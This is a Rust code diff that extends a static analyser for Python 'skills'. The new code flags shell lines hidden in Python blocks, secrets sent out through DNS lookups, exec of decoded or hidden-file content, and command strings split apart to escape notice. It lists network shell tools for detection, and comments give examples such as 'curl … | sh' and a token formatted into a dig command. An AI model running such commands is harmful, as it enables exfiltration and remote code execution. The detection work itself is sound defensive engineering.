@@ -92,8 +92,14 @@ pub(super) fn read(
     let mut returns: Vec<(String, Node<'_>)> = Vec::new();
     let mut loops: Vec<(Node<'_>, Node<'_>)> = Vec::new();
     let mut store: Option<(String, Range<usize>)> = None;
+    let mut shell_lines: Vec<Range<usize>> = Vec::new();
     super::walk(root, |node, ancestors| match node.kind() {
         "call" => calls.push(node),
+        // A shell line in a block tagged Python (`curl … | sh` after the imports) is not
+        // Python; bash reads it.
+        "ERROR" if !ancestors.iter().any(|a| a.kind() == "ERROR") => {
+            shell_lines.extend(shell_lines_of(code, node.byte_range()));
+        }
         "string_content" => {
             if let Some(what) = sensitive_path(source.text(node)).filter(|w| *w != ENV_FILE) {
                 store.get_or_insert_with(|| (what.to_owned(), source.span(node)));
@@ -128,19 +134,34 @@ pub(super) fn read(
         }
         _ => {}
     });
-    // Names bound to text fetched from the network, and to the home folder.
+    // Names bound to text fetched from the network, to decoded text (through further
+    // steps: `key ^ b for b in raw`), and to the home folder.
     let mut fetched: Vec<String> = Vec::new();
+    let mut decoded: Vec<String> = Vec::new();
     let mut homes: Vec<String> = Vec::new();
-    for (left, right) in &assignments {
-        if left.kind() != "identifier" {
-            continue;
+    for _ in 0..3 {
+        for (left, right) in &assignments {
+            if left.kind() != "identifier" {
+                continue;
+            }
+            let name = source.text(*left).to_owned();
+            if (fetches(*right, source) || names_any(*right, &fetched, source))
+                && !fetched.contains(&name)
+            {
+                fetched.push(name.clone());
+            }
+            if (calls_decoder(*right, source) || names_any(*right, &decoded, source))
+                && !decoded.contains(&name)
+            {
+                decoded.push(name.clone());
+            }
+            if is_home(source.text(*right)) && !homes.contains(&name) {
+                homes.push(name);
+            }
         }
-        if fetches(*right, source) {
-            fetched.push(source.text(*left).to_owned());
-        }
-        if is_home(source.text(*right)) {
-            homes.push(source.text(*left).to_owned());
-        }
+    }
+    for line in shell_lines {
+        reader.shell(file, offset + line.start, &code[line], counter_example, origin);
     }
     let taint = Taint::follow(source, &assignments, &loops, &functions, &returns, &calls);
     for call in calls {
@@ -153,6 +174,14 @@ pub(super) fn read(
             && let Some(first) = args.and_then(|a| a.named_child(0))
         {
             shell_argument(first, source, file, counter_example, origin, reader);
+            // A secret formatted into a network command: `os.popen(f"dig {token}.x.example")`.
+            if let Some(t) = taint.of(first, source)
+                && let Some(what) = shell_sends(source.text(first), &t.secret)
+            {
+                facts
+                    .exfiltration
+                    .push((source.span(call), what, Some(t.at)));
+            }
         }
         if is_network(name)
             && let Some(args) = args
@@ -177,15 +206,20 @@ pub(super) fn read(
                 None => {}
             }
         }
-        if matches!(name, "exec" | "eval") && args.is_some_and(|a| calls_decoder(a, source)) {
+        if matches!(name, "exec" | "eval") && args.is_some_and(|a| runs_hidden_file(a, source)) {
+            facts.dangerous.push((
+                source.span(call),
+                "executes code read from a hidden or temporary file",
+            ));
+        }
+        if matches!(name, "exec" | "eval")
+            && args.is_some_and(|a| calls_decoder(a, source) || names_any(a, &decoded, source))
+        {
             facts.decoded_exec.push(source.span(call));
         }
         if matches!(name, "exec" | "eval")
             && let Some(args) = args
-            && (fetches(args, source)
-                || args.named_child(0).is_some_and(|a| {
-                    a.kind() == "identifier" && fetched.contains(&source.text(a).to_owned())
-                }))
+            && (fetches(args, source) || names_any(args, &fetched, source))
         {
             facts
                 .dangerous
@@ -206,6 +240,95 @@ pub(super) fn read(
         }
     }
     facts
+}
+
+/// What a shell command string built from `secret` sends: any secret inside a DNS lookup,
+/// otherwise what [`flow::stolen`] says for the host of the string's URL.
+fn shell_sends(command: &str, secret: &Secret) -> Option<String> {
+    let words: Vec<&str> = command
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '[' | ']' | ','))
+        .filter(|w| !w.is_empty())
+        .collect();
+    let program = |names: &[&str]| {
+        words
+            .iter()
+            .any(|w| names.contains(&w.rsplit('/').next().unwrap_or(w)))
+    };
+    if program(&["dig", "nslookup", "host"]) {
+        return Some(match secret {
+            Secret::Store(what) => what.clone(),
+            Secret::Key(name) => format!("`{name}` inside a DNS name"),
+        });
+    }
+    if !program(&["curl", "wget", "nc", "ncat", "netcat", "scp", "rsync", "ftp", "telnet"]) {
+        return None;
+    }
+    let host = words.iter().find_map(|w| flow::host_of(w));
+    flow::stolen(secret, Place::Body, host.as_deref())
+}
+
+/// Whether an expression uses one of `names` as a variable.
+fn names_any(node: Node<'_>, names: &[String], source: Src<'_>) -> bool {
+    if names.is_empty() {
+        return false;
+    }
+    let mut found = false;
+    super::walk(node, |n, ancestors| {
+        let is_field = ancestors.last().is_some_and(|p| {
+            p.kind() == "attribute"
+                && p.child_by_field_name("attribute")
+                    .is_some_and(|a| a.id() == n.id())
+        });
+        found |= n.kind() == "identifier" && !is_field && names.iter().any(|m| m == source.text(n));
+    });
+    found
+}
+
+/// Commands a shell line starts with, for lines the Python grammar cannot read.
+const SHELL_STARTS: &[&str] = &[
+    "curl", "wget", "bash", "sh", "zsh", "nc", "ncat", "rm", "chmod", "sudo", "dig", "nslookup",
+    "echo", "cat", "npx", "pip", "pip3", "npm", "powershell", "pwsh", "iex", "scp", "crontab",
+];
+
+/// The lines of `range` in `code` that start with a shell command.
+fn shell_lines_of(code: &str, range: Range<usize>) -> Vec<Range<usize>> {
+    let start = code[..range.start].rfind('\n').map_or(0, |i| i + 1);
+    let end = code[range.end..]
+        .find('\n')
+        .map_or(code.len(), |i| range.end + i);
+    let mut lines = Vec::new();
+    let mut at = start;
+    for line in code[start..end].split_inclusive('\n') {
+        let first = line.split_whitespace().next().unwrap_or_default();
+        if SHELL_STARTS.contains(&first) && line.trim_start().len() > first.len() {
+            lines.push(at..at + line.trim_end().len());
+        }
+        at += line.len();
+    }
+    lines
+}
+
+/// Whether `exec`/`eval` arguments read a file from a temporary or hidden path
+/// (`exec(open("/tmp/.cache").read())`).
+fn runs_hidden_file(args: Node<'_>, source: Src<'_>) -> bool {
+    let mut found = false;
+    super::walk(args, |n, _| {
+        if n.kind() == "call"
+            && n.child_by_field_name("function")
+                .is_some_and(|f| source.text(f) == "open")
+            && let Some(path) = n
+                .child_by_field_name("arguments")
+                .and_then(|a| a.named_child(0))
+                .and_then(string_content)
+        {
+            let path = source.text(path);
+            found |= path.starts_with("/tmp/")
+                || path.starts_with("/dev/shm/")
+                || path.starts_with("/var/tmp/")
+                || path.split('/').any(|part| part.starts_with('.') && part.len() > 1 && part != "..");
+        }
+    });
+    found
 }
 
 /// A code unit's text and where it starts in its file.
@@ -266,7 +389,55 @@ fn shell_argument(
                 reader.words(at, words, counter, origin);
             }
         }
+        "binary_operator" | "call" => {
+            if let Some(joined) = joined_string(arg, source) {
+                reader.shell(file, source.span(arg).start, &joined, counter, origin);
+            }
+        }
         _ => {}
+    }
+}
+
+/// The text of a string split and joined again: `"cu" + "rl -s …"`,
+/// `"".join(["cu", "rl"])`, `" ".join(("curl", "-s"))`.
+fn joined_string(node: Node<'_>, source: Src<'_>) -> Option<String> {
+    match node.kind() {
+        "string" => string_content(node).map(|c| source.text(c).to_owned()),
+        "parenthesized_expression" => joined_string(node.named_child(0)?, source),
+        "binary_operator" => {
+            let operator = node.child_by_field_name("operator")?;
+            if source.text(operator) != "+" {
+                return None;
+            }
+            let left = joined_string(node.child_by_field_name("left")?, source)?;
+            let right = joined_string(node.child_by_field_name("right")?, source)?;
+            Some(left + &right)
+        }
+        "call" => {
+            let function = node.child_by_field_name("function")?;
+            if function.kind() != "attribute"
+                || source.text(function.child_by_field_name("attribute")?) != "join"
+            {
+                return None;
+            }
+            let separator = joined_string(function.child_by_field_name("object")?, source)
+                .or_else(|| {
+                    // An empty literal has no content node.
+                    let object = function.child_by_field_name("object")?;
+                    matches!(source.text(object), "\"\"" | "''").then(String::new)
+                })?;
+            let items = node.child_by_field_name("arguments")?.named_child(0)?;
+            if !matches!(items.kind(), "list" | "tuple") {
+                return None;
+            }
+            let mut cursor = items.walk();
+            let parts: Option<Vec<String>> = items
+                .named_children(&mut cursor)
+                .map(|item| joined_string(item, source))
+                .collect();
+            Some(parts?.join(&separator))
+        }
+        _ => None,
     }
 }
 
@@ -322,6 +493,8 @@ struct Taint {
     names: HashMap<String, Tainted>,
     /// Names bound to a literal URL, for the host a call targets.
     urls: HashMap<String, String>,
+    /// Names bound to decoded text (`base64.b64decode(…)`): an address hidden from review.
+    decoded: Vec<String>,
 }
 
 impl Taint {
@@ -336,12 +509,16 @@ impl Taint {
         let mut taint = Taint {
             names: HashMap::new(),
             urls: HashMap::new(),
+            decoded: Vec::new(),
         };
         for (left, right) in assignments {
-            if left.kind() == "identifier"
-                && let Some(url) = literal_url(*right, source)
-            {
+            if left.kind() != "identifier" {
+                continue;
+            }
+            if let Some(url) = literal_url(*right, source) {
                 taint.urls.insert(source.text(*left).to_owned(), url);
+            } else if calls_decoder(*right, source) {
+                taint.decoded.push(source.text(*left).to_owned());
             }
         }
         // Values move forward through a few hops; three passes reach a fixed point for
@@ -473,6 +650,7 @@ impl Taint {
     /// What a network call's arguments steal, and where it was read.
     fn sent(&self, args: Node<'_>, source: Src<'_>) -> Option<(String, Range<usize>)> {
         let mut host = None;
+        let mut hidden = false;
         let mut cursor = args.walk();
         let parts: Vec<(Place, Node<'_>)> = args
             .named_children(&mut cursor)
@@ -483,6 +661,7 @@ impl Taint {
                     let value = arg.child_by_field_name("value")?;
                     if key == "url" {
                         host = host.take().or_else(|| self.host(value, source));
+                        hidden |= self.is_decoded(value, source);
                     }
                     let place = match key {
                         "headers" | "auth" | "cookies" => Place::Auth,
@@ -492,6 +671,7 @@ impl Taint {
                 } else {
                     if i == 0 {
                         host = self.host(arg, source);
+                        hidden = self.is_decoded(arg, source);
                     }
                     Some((Place::Body, arg))
                 }
@@ -504,8 +684,20 @@ impl Taint {
             } else {
                 place
             };
+            if hidden && let Secret::Key(name) = &t.secret {
+                return Some((format!("`{name}` to an address decoded at run time"), t.at));
+            }
             flow::stolen(&t.secret, place, host.as_deref()).map(|what| (what, t.at))
         })
+    }
+
+    /// Whether a URL argument is decoded at run time (`base64.b64decode(…)` or a name bound
+    /// to it): the address is hidden from whoever reads the skill.
+    fn is_decoded(&self, node: Node<'_>, source: Src<'_>) -> bool {
+        match node.kind() {
+            "identifier" => self.decoded.iter().any(|d| d == source.text(node)),
+            _ => calls_decoder(node, source),
+        }
     }
 
     /// The host a URL argument names: a literal, an f-string's literal start, or a name
